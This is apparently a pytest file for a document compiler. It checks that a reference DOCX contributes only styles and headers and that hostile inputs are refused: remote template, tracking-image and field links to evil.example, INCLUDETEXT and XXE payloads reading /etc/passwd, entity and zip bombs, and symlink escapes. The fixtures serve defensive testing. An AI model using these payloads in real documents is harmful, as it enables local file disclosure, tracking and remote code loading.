"""A reference DOCX lends styles, numbering, theme, settings, headers and footers only; it is
read within limits, without entities, and nothing of it reaches outside the document."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest

from compiler.errors import CompilerError
from compiler.renderers import TEMPLATES, RenderOptions
from compiler.renderers.docx import render
from tests.renderers import docx_fixture

REFERENCE = TEMPLATES / "docx" / "reference.docx"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://evil.example"


def _rebuild(changes: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(REFERENCE) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in changes and info.filename not in drop:
                dst.writestr(info.filename, src.read(info.filename))
        for name, data in changes.items():
            dst.writestr(name, data)
    return out.getvalue()


def _render(tmp_path: Path, data: bytes) -> bytes:
    ref = tmp_path / "corporate.docx"
    ref.write_bytes(data)
    return render(docx_fixture.localized(), RenderOptions(reference_docx=ref))


def _hostile_reference() -> bytes:
    with zipfile.ZipFile(REFERENCE) as src:
        types = src.read("[Content_Types].xml").decode()
        doc_rels = src.read("word/_rels/document.xml.rels").decode()
        settings = src.read("word/settings.xml").decode()
        document = src.read("word/document.xml").decode()
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    header = (f'<w:hdr xmlns:w="{w}" xmlns:r="{R}" '
              'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
              '<w:p><w:r><w:t>Corporate header</w:t></w:r></w:p>'
              '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/t.png&quot; \\d">'
              '<w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>'
              '<w:p><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r></w:p>'
              '<w:p><w:r><w:drawing><a:blip r:link="rIdEvil"/></w:drawing></w:r></w:p>'
              '</w:hdr>')
    header_rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                   'relationships"><Relationship Id="rIdEvil" Type="http://schemas.'
                   'openxmlformats.org/officeDocument/2006/relationships/image" '
                   f'Target="{EVIL}/track.png" TargetMode="External"/></Relationships>')
    settings_rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                     'relationships"><Relationship Id="rIdT" Type="http://schemas.'
                     'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                     f'Target="{EVIL}/template.dotm" TargetMode="External"/></Relationships>')
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
    if "xmlns:r=" not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R}" ', 1)
    doc_rels = doc_rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/header" Target="header1.xml"/>'
        '<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/comments" Target="comments.xml"/></Relationships>')
    types = types.replace(
        "</Types>",
        '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.header+xml"/><Override PartName="/word/comments.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+'
        'xml"/></Types>')
    document = document.replace("<w:sectPr", f'<w:sectPr xmlns:r="{R}"', 1).replace(
        "<w:pgSz", '<w:headerReference w:type="default" r:id="rIdH"/><w:pgSz', 1)
    comments = (f'<w:comments xmlns:w="{w}"><w:comment w:id="0" w:author="Legal">'
                '<w:p><w:r><w:t>SECRET REVIEW NOTE</w:t></w:r></w:p></w:comment></w:comments>')
    return _rebuild({"[Content_Types].xml": types.encode(), "word/_rels/document.xml.rels":
                     doc_rels.encode(), "word/settings.xml": settings.encode(),
                     "word/_rels/settings.xml.rels": settings_rels.encode(),
                     "word/header1.xml": header.encode(),
                     "word/_rels/header1.xml.rels": header_rels.encode(),
                     "word/comments.xml": comments.encode(), "word/document.xml": document.encode(),
                     "word/vbaProject.bin": b"macro"})


def test_reference_lends_only_styles_and_headers(tmp_path: Path) -> None:
    import docx

    data = _render(tmp_path, _hostile_reference())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        everything = b"".join(z.read(n) for n in names)
    assert "word/comments.xml" not in names and "word/vbaProject.bin" not in names
    assert EVIL.encode() not in everything  # no remote template, image or field target
    assert b"attachedTemplate" not in everything and b"/etc/passwd" not in everything
    assert b"SECRET REVIEW NOTE" not in everything
    document = docx.Document(io.BytesIO(data))
    header = "\n".join(p.text for p in document.sections[0].header.paragraphs)
    assert "Corporate header" in header  # the reference's header is lent


@pytest.mark.parametrize("case", ["entity-bomb", "external-entity", "doctype"])
def test_reference_with_xml_entities_is_refused(tmp_path: Path, case: str) -> None:
    with zipfile.ZipFile(REFERENCE) as src:
        styles = src.read("word/styles.xml").decode()
    decl, _, rest = styles.partition("?>")
    dtd = {"entity-bomb": '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>',
           "external-entity": '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
           "doctype": '<!DOCTYPE w SYSTEM "http://evil.example/w.dtd">'}[case]
    data = _rebuild({"word/styles.xml": (decl + "?>" + dtd + rest).encode()})
    with pytest.raises(CompilerError, match=r"corporate\.docx: error: cannot read reference "
                       r"document: part word/styles\.xml declares a DTD or XML entities"):
        _render(tmp_path, data)


def test_zip_bomb_reference_is_refused_quickly(tmp_path: Path) -> None:
    from compiler.limits import MAX_DOCX_TOTAL_BYTES

    filler = b"<!-- " + b" " * (MAX_DOCX_TOTAL_BYTES + 1024) + b" -->"
    data = _rebuild({"word/styles.xml": filler})
    assert len(data) < 1_000_000
    started = time.perf_counter()
    with pytest.raises(CompilerError, match="a zip bomb"):
        _render(tmp_path, data)
    assert time.perf_counter() - started < 5


def test_zip_bomb_lying_about_its_size_is_refused(tmp_path: Path) -> None:
    """A part whose header declares a small size but inflates to more."""
    from compiler.limits import MAX_DOCX_PART_BYTES
    from compiler.renderers.reference import clean

    big = _rebuild({"word/styles.xml": b" " * (MAX_DOCX_PART_BYTES + 10)})
    small = _rebuild({"word/styles.xml": b" " * 10})
    # Patch the declared uncompressed sizes of the big part down to 10 bytes.
    patched = bytearray(big)
    with zipfile.ZipFile(io.BytesIO(big)) as z:
        info = z.getinfo("word/styles.xml")
    size = (MAX_DOCX_PART_BYTES + 10).to_bytes(4, "little")
    patched = bytearray(bytes(patched).replace(size, (10).to_bytes(4, "little")))
    assert info.file_size == MAX_DOCX_PART_BYTES + 10 and small
    with pytest.raises(CompilerError, match="cannot read reference document"):
        clean(bytes(patched), "lying.docx")


def test_reference_outside_the_project_is_refused(tmp_path: Path) -> None:
    """Named by a source: relative, inside the project, symlinks resolved."""
    import shutil

    from compiler.build import BuildOptions, build
    from tests.helpers import FIXTURES

    project = tmp_path / "p"
    shutil.copytree(FIXTURES / "project", project)
    source = project / "source" / "retention-schedule.yaml"
    outside = tmp_path / "secret.docx"
    outside.write_bytes(REFERENCE.read_bytes())
    (project / "source" / "corporate.docx").symlink_to(outside)
    text = source.read_text()
    source.write_text(text.replace("organization: Example GmbH",
                                   "organization: Example GmbH\nreference_docx: corporate.docx"))
    with pytest.raises(CompilerError, match=r"reference_docx 'corporate\.docx' lies outside the "
                       "project folder"):
        build([source], BuildOptions(out=project / "dist", locales=("en",), formats=("docx",)))
